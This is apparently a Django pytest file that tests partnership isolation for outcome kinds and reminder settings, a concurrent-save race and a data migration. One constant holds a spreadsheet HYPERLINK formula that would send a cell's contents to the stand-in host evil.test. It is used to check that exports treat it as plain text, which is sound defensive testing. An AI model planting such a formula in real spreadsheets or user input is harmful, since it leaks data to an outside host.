"""Finding 4 of issue 14: each partnership's settings are its own. Another partnership's admin could
rename this one's kinds of outcome (a spreadsheet formula landed in its review pack) and change its
meeting reminders to go out a year early."""

import io
import threading
from datetime import timedelta

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from meetings.models import Meeting
from partnership.models import Membership
from projects.models import OutcomeKind
from projects.seed import ensure_reference_data
from projects.services import save_outcome_kind
from reminders.models import KindSetting, Reminder
from tests.factories import OrganisationFactory, PartnershipFactory, PersonFactory
from tests.meetings.factories import schedule
from tests.projects.factories import OutcomeReportFactory, ProjectFactory

FORMULA = '=HYPERLINK("http://evil.test/?leak="&C7,"Jobs created")'


@pytest.fixture
def other_admin(db):
    """The admin of another partnership, on the same Accord."""
    elsewhere = OrganisationFactory(short_name="ELSE", name="Elsewhere Council")
    PartnershipFactory(name="Another partnership", parties=[elsewhere])
    return PersonFactory(roles=[(elsewhere, Membership.Role.PARTNERSHIP_ADMIN)])


@pytest.fixture
def other_client(other_admin):
    """A browser of their own, beside this partnership's admin's."""
    client = Client()
    client.force_login(other_admin)
    return client


@pytest.fixture
def jobs(partnership, other_admin):
    ensure_reference_data()
    return OutcomeKind.objects.get(partnership=partnership, name="Jobs created")


def test_every_partnership_has_its_own_kinds_of_outcome(partnership, other_admin, jobs):
    other = other_admin.memberships.get().organisation.partnerships.get()
    theirs = OutcomeKind.objects.get(partnership=other, name="Jobs created")
    assert theirs != jobs


def test_another_partnerships_admin_cannot_rename_this_ones_kind_of_outcome(other_client, jobs):
    url = reverse("projects:outcome-kind-edit", kwargs={"pk": jobs.pk})
    assert other_client.get(url).status_code == 404
    assert other_client.post(url, {"name": FORMULA, "unit": "jobs"}).status_code == 404
    jobs.refresh_from_db()
    assert jobs.name == "Jobs created"


def test_another_partnerships_list_of_outcome_kinds_leaves_this_ones_out(other_client, partnership, jobs):
    OutcomeKind.objects.create(partnership=partnership, name="Hectares remediated", unit="hectares")
    page = other_client.get(reverse("projects:outcome-kinds")).content.decode()
    assert "Jobs created" in page  # their own
    assert "Hectares remediated" not in page


def test_a_project_records_only_its_own_partnerships_kinds_of_outcome(
    admin_client_, partnership, other_admin, hlep, jobs
):
    other = other_admin.memberships.get().organisation.partnerships.get()
    theirs = OutcomeKind.objects.get(partnership=other, name="Jobs created")
    project = ProjectFactory(partnership=partnership, lead_organisation=hlep)
    url = reverse("projects:outcome-report-create", kwargs={"pk": project.pk})
    response = admin_client_.post(
        url,
        {"kind": theirs.pk, "period_start": "2026-04-01", "period_end": "2026-09-30", "actual": "3"},
    )
    assert response.status_code == 200
    assert "kind" in response.context["form"].errors
    assert not project.outcome_reports.exists()


def test_a_kind_of_outcome_like_a_formula_is_text_in_the_review_pack(
    board_client, admin_person, partnership, hlep, jobs
):
    jobs.name = FORMULA
    jobs.save()
    project = ProjectFactory(partnership=partnership, lead_organisation=hlep)
    now = timezone.now()
    OutcomeReportFactory(
        project=project,
        kind=jobs,
        period_start=timezone.localdate(now) - timedelta(days=60),
        period_end=timezone.localdate(now) - timedelta(days=30),
    )
    meeting = schedule(partnership, hlep, by=admin_person)
    response = board_client.get(reverse("overview:review-pack-xlsx", kwargs={"pk": meeting.pk}))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_another_partnerships_admin_cannot_change_this_ones_reminders(
    other_client, partnership, hlep, hlep_board_member
):
    response = other_client.post(
        reverse("reminders:setting-update", kwargs={"kind": "meeting_upcoming"}),
        {"enabled": "on", "offsets_days": "365"},
    )
    assert response.status_code == 302  # their own setting, saved
    meeting = schedule(partnership, hlep)
    days = Reminder.objects.for_record(meeting).filter(kind="meeting_upcoming")
    assert sorted(r.context["days_before"] for r in days) == [1, 7, 28]
    assert not KindSetting.objects.filter(partnership=partnership).exists()


def test_this_partnerships_settings_page_shows_its_own_days(admin_client_, other_client, partnership):
    other_client.post(
        reverse("reminders:setting-update", kwargs={"kind": "meeting_upcoming"}),
        {"enabled": "on", "offsets_days": "365"},
    )
    page = admin_client_.get(reverse("reminders:settings")).content.decode()
    assert "365" not in page
    form = admin_client_.get(reverse("reminders:setting-update", kwargs={"kind": "meeting_upcoming"}))
    assert form.context["form"].instance.pk is None


def test_switching_a_kind_off_elsewhere_leaves_this_partnerships_reminders(
    other_client, partnership, hlep, hlep_board_member
):
    other_client.post(reverse("reminders:setting-update", kwargs={"kind": "meeting_upcoming"}), {})
    meeting = schedule(partnership, hlep)
    assert Reminder.objects.for_record(meeting).filter(kind="meeting_upcoming").exists()
    assert Meeting.objects.count() == 1


# Two admins adding the same kind at once: the second gets a message on the form, not a 500.


def test_a_kind_added_between_the_forms_check_and_its_save_is_a_form_error(admin_person, partnership, jobs):
    from projects.forms import OutcomeKindForm

    form = OutcomeKindForm({"name": "Hectares remediated", "unit": "hectares"}, partnership=partnership)
    assert form.is_valid()
    OutcomeKind.objects.create(partnership=partnership, name="Hectares remediated", unit="hectares")
    with pytest.raises(ValidationError) as raised:
        save_outcome_kind(form.instance, partnership=partnership, by=admin_person, **form.cleaned_data)
    assert "name" in raised.value.message_dict
    assert OutcomeKind.objects.filter(partnership=partnership, name="Hectares remediated").count() == 1


@pytest.mark.django_db(transaction=True)
def test_two_admins_adding_the_same_kind_at_once_get_one_kind_and_one_form_error(partnership, admin_person):
    """Two connections to the real database: the first holds its insert open while the second tries."""
    ensure_reference_data()
    first_saved = threading.Event()
    second_tried = threading.Event()
    outcomes = {}

    def first():
        from django.db import transaction

        try:
            with transaction.atomic():
                save_outcome_kind(
                    OutcomeKind(), partnership=partnership, by=admin_person, name="Learners placed", unit="x"
                )
                first_saved.set()
                second_tried.wait(timeout=5)  # the second insert waits on this row's lock
            outcomes["first"] = "saved"
        finally:
            connection.close()

    def second():
        first_saved.wait(timeout=5)
        try:
            threading.Timer(0.5, second_tried.set).start()
            save_outcome_kind(
                OutcomeKind(), partnership=partnership, by=admin_person, name="Learners placed", unit="x"
            )
            outcomes["second"] = "saved"
        except ValidationError as error:
            outcomes["second"] = error.message_dict
        finally:
            connection.close()

    threads = [threading.Thread(target=first), threading.Thread(target=second)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=10)
    assert outcomes["first"] == "saved"
    assert "name" in outcomes["second"]
    assert OutcomeKind.objects.filter(partnership=partnership, name="Learners placed").count() == 1


def test_the_page_shows_the_duplicate_as_an_error_on_the_name(admin_client_, jobs):
    response = admin_client_.post(
        reverse("projects:outcome-kind-create"), {"name": "Jobs created", "unit": "x"}
    )
    assert response.status_code == 200
    assert "There is already an outcome of that name" in response.content.decode()


# The migration: the kinds and settings there were, which every partnership shared, become each one's.


def migrate(*targets):
    """The database migrated to `targets` (none: every app's latest), and the models as they were then."""
    from django.db.migrations.executor import MigrationExecutor

    executor = MigrationExecutor(connection)
    targets = list(targets) or executor.loader.graph.leaf_nodes()
    executor.migrate(targets)
    executor.loader.build_graph()
    return executor.loader.project_state(targets).apps


BEFORE = [("projects", "0002_list_and_review_pack_indexes"), ("reminders", "0001_initial")]
AFTER = [
    ("projects", "0003_outcome_kinds_belong_to_a_partnership"),
    ("reminders", "0002_settings_belong_to_a_partnership"),
]


@pytest.mark.django_db(transaction=True)
def test_the_migration_copies_shared_kinds_and_settings_to_each_partnership():
    old = migrate(*BEFORE)
    first, second = (old.get_model("partnership", "Partnership").objects.create(name=n) for n in "AB")
    organisation = old.get_model("partnership", "Organisation").objects.create(name="Org", short_name="ORG")
    jobs = old.get_model("projects", "OutcomeKind").objects.create(name="Jobs created", unit="jobs")
    project = old.get_model("projects", "Project").objects.create(
        partnership=second, title="Second's project", lead_organisation=organisation, sector="skills"
    )
    old.get_model("projects", "OutcomeTarget").objects.create(project=project, kind=jobs, target=5)
    old.get_model("reminders", "KindSetting").objects.create(kind="meeting_upcoming", offsets_days="14")
    try:
        new = migrate(*AFTER)
        kinds = new.get_model("projects", "OutcomeKind").objects
        assert sorted(kinds.values_list("partnership_id", "name")) == [
            (first.pk, "Jobs created"),
            (second.pk, "Jobs created"),
        ]
        target = new.get_model("projects", "OutcomeTarget").objects.get()
        assert target.kind.partnership_id == second.pk  # the project's own partnership's copy
        settings = new.get_model("reminders", "KindSetting").objects
        assert sorted(settings.values_list("partnership_id", "offsets_days")) == [
            (first.pk, "14"),
            (second.pk, "14"),
        ]
    finally:
        migrate()  # the later migrations too, for the tests after this one


@pytest.mark.django_db(transaction=True)
def test_the_migration_works_on_a_database_with_no_partnership_yet():
    old = migrate(*BEFORE)
    old.get_model("projects", "OutcomeKind").objects.create(name="Jobs created", unit="jobs")
    old.get_model("reminders", "KindSetting").objects.create(kind="meeting_upcoming", offsets_days="14")
    try:
        new = migrate(*AFTER)
        assert not new.get_model("projects", "OutcomeKind").objects.exists()
        assert not new.get_model("reminders", "KindSetting").objects.exists()
    finally:
        migrate()
